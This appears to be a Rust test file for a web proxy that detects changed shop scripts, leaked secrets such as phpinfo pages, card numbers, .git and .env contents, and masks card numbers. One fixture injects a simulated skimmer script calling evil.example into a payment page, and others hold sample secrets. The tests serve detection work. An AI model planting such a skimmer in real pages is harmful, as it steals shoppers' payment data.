//! What is told of pages, scripts and leaks, and how often.

use gabion_markup::holding::SiteHolding;
use gabion_markup::sighting::Seen;
use gabion_markup::{ContentHash, PageClass};
use gabion_test::{Shop, body};
use http::{Request, Response};
use hyper::body::Incoming;
use std::sync::atomic::{AtomicUsize, Ordering};

use super::{PAGE, decided, front, held, hold, packed, page, shop, site, unpacked};
use crate::front::{Setup, get, soon};

#[tokio::test]
async fn a_page_is_told_once_and_another_content_of_it_at_once() {
    let count = AtomicUsize::new(0);
    let shop =
        Shop::start(move |_: Request<Incoming>| {
            let n = count.fetch_add(1, Ordering::SeqCst);
            // A token that is different in every answer, and from the tenth on a skimmer.
            let skimmer = if n >= 10 { "<script>steal('https://evil.example')</script>" } else { "" };
            let page = format!("<script nonce=n{n}>let csrf = 'a1b2{n}';</script>{skimmer}");
            async move {
                Ok(Response::builder().header("content-type", "text/html").body(body::whole(page)).unwrap())
            }
        })
        .await;
    let front = held(&shop, decided());
    for _ in 0..10 {
        front.get("/pay/order/1234").await;
    }
    assert_eq!(front.sightings.all().len(), 2, "the second shows what differs");
    front.get("/pay/order/77").await;
    let told = front.sightings.all();
    let pages: Vec<_> = told.iter().filter_map(page).collect();
    assert_eq!(pages.len(), 3, "{told:?}");
    assert_eq!(pages[2].page.scripts.len(), 2);
    assert_eq!(pages[2].address.to_string(), "https://shop.example/pay/order/*");
    front.edge.stop_and_drain().await;
    let told: Vec<_> = front.sightings.all().iter().filter_map(page).collect();
    assert_eq!(told.iter().map(|page| page.servings).collect::<Vec<_>>(), [1, 1, 1, 8]);
}

#[tokio::test]
async fn pages_of_errors_are_not_told() {
    let shop = Shop::start(|_: Request<Incoming>| async {
        let response = Response::builder().status(404).header("content-type", "text/html");
        Ok(response.body(body::whole(PAGE)).unwrap())
    })
    .await;
    let front = front(&shop);
    assert_eq!(front.get("/made-up").await.text(), PAGE);
    assert!(front.sightings.all().is_empty());
    assert_eq!(front.edge.metrics().pages_seen.load(Ordering::Relaxed), 1);
}

#[tokio::test]
async fn scripts_of_the_shop_are_told_when_they_change() {
    let count = AtomicUsize::new(0);
    let shop = Shop::start(move |_: Request<Incoming>| {
        let text = if count.fetch_add(1, Ordering::SeqCst) < 3 { "let a = 1;" } else { "let a = 2;" };
        async move {
            let response = Response::builder().header("content-type", "text/javascript; charset=utf-8");
            let response = response.header("content-encoding", "gzip");
            Ok(response.body(body::whole(packed(text.as_bytes()))).unwrap())
        }
    })
    .await;
    let front = front(&shop);
    for _ in 0..5 {
        front.get("/static/pay.js?v=1").await;
    }
    let told = front.sightings.all();
    let scripts: Vec<_> = told
        .iter()
        .map(|seen| match seen {
            Seen::Script(script) => (script.address.to_string(), script.hash, script.beginning.as_str()),
            other => panic!("{other:?}"),
        })
        .collect();
    let at = "https://shop.example/static/pay.js";
    let hash = |text: &str| ContentHash::of(text.as_bytes());
    assert_eq!(
        scripts,
        [
            (at.to_owned(), hash("let a = 1;"), "let a = 1;"),
            (at.to_owned(), hash("let a = 2;"), "let a = 2;")
        ]
    );
}

#[tokio::test]
async fn what_an_answer_should_not_say_is_told_once_and_passes() {
    for (kind, text, code) in [
        ("text/html", "<title>phpinfo()</title>", "phpinfo"),
        ("application/json", "{\"pan\":\"378282246310005\"}", "card-number"),
        ("application/octet-stream", "ref: refs/heads/main\n", "git-folder"),
        ("text/plain", "APP_ENV=prod\nDB_PASSWORD=hunter2\n", "env-file"),
    ] {
        let shop = Shop::start(move |_: Request<Incoming>| async move {
            Ok(Response::builder().header("content-type", kind).body(body::whole(text)).unwrap())
        })
        .await;
        let front = front(&shop);
        for _ in 0..3 {
            assert_eq!(front.get("/a").await.text(), text);
        }
        let told = front.sightings.all();
        let codes: Vec<_> = told
            .iter()
            .filter_map(|seen| match seen {
                Seen::Leak { leaks, .. } => Some(leaks.leaks[0].code),
                _ => None,
            })
            .collect();
        assert_eq!(codes, [code]);
    }
}

#[tokio::test]
async fn what_an_answer_should_not_say_is_masked_on_request() {
    for (kind, coding) in
        [("text/html", ""), ("text/html", "gzip"), ("application/json", ""), ("text/plain", "gzip")]
    {
        let shop = Shop::start(move |_: Request<Incoming>| async move {
            let text = b"<p>[4242 4242 4242 4242]".as_slice();
            let content = if coding.is_empty() { text.to_vec() } else { packed(text) };
            let response =
                Response::builder().header("content-type", kind).header("content-encoding", coding);
            Ok(response.header("etag", "\"1\"").body(body::whole(content)).unwrap())
        })
        .await;
        let front = Setup::of(&[&shop]).pages("sample_percent = 0\nmask_secrets = true").start();
        let answer = front.get("/a").await;
        assert_eq!(answer.header("etag"), "");
        assert_eq!(answer.header("content-encoding"), coding);
        let text = if coding.is_empty() { answer.text().to_owned() } else { unpacked(&answer.body) };
        assert_eq!(text, "<p>[**** **** **** 4242]", "{kind} {coding}");
        let told = front.sightings.all();
        assert!(
            told.iter()
                .any(|seen| matches!(seen, Seen::Leak { leaks, .. } if leaks.leaks[0].code == "card-number"))
        );
    }
}

#[tokio::test]
async fn what_an_answer_with_an_error_should_not_say_is_told_in_every_visit() {
    let shop = Shop::start(|_: Request<Incoming>| async {
        let response = Response::builder().status(500).header("content-type", "text/html");
        Ok(response.body(body::whole("<title>phpinfo()</title>")).unwrap())
    })
    .await;
    let front = held(&shop, decided());
    front.get("/order/1234").await;
    let told = front.sightings.all();
    let [Seen::Leak { address, leaks }] = &told[..] else { panic!("{told:?}") };
    assert_eq!(
        (address.to_string().as_str(), leaks.leaks[0].code),
        ("https://shop.example/order/*", "phpinfo")
    );
}

#[tokio::test]
async fn browsers_are_asked_to_report_in_some_visits_and_always_the_same() {
    let shop = shop(&[], PAGE).await;
    let front = Setup::of(&[&shop]).pages("sample_percent = 50").start();
    let by_class = [(PageClass::Other, decided())].into();
    front.edge.hold_pages([(site(), SiteHolding { by_class, ..SiteHolding::default() })].into());
    let mut wire = front.tls().await;
    let mut asked = 0;
    for browser in 0..40 {
        let mut answers = Vec::new();
        for _ in 0..3 {
            let answer = soon(wire.ask(get("/about", &format!("User-Agent: browser {browser}\r\n")))).await;
            answers.push(!answer.header("content-security-policy-report-only").is_empty());
        }
        assert!(answers.iter().all(|answer| *answer == answers[0]), "a visit is asked as a whole");
        asked += usize::from(answers[0]);
    }
    assert!((5..=35).contains(&asked), "{asked} of 40");
}

#[tokio::test]
async fn pages_for_nothing_in_particular_are_looked_at_as_often_as_their_path_is_not_anyway() {
    let shop = shop(&[], PAGE).await;
    let front = Setup::of(&[&shop]).pages("sample_percent = 0").start();
    hold(&front, decided());
    let mut wire = front.tls().await;
    let seen = || front.edge.metrics().pages_seen.load(Ordering::Relaxed);
    for _ in 0..60 {
        soon(wire.ask(get("/about", ""))).await;
    }
    // Twenty at once; the second ones while it was asked are few.
    assert!((20..60).contains(&seen()), "{} of 60", seen());
    let before = seen();
    soon(wire.ask(get("/other", ""))).await;
    assert_eq!(seen() - before, 1, "another path is counted apart");
    for _ in 0..60 {
        soon(wire.ask(get("/pay/card", ""))).await;
    }
    assert_eq!(seen() - before, 61, "pages where people pay are looked at each time");
}
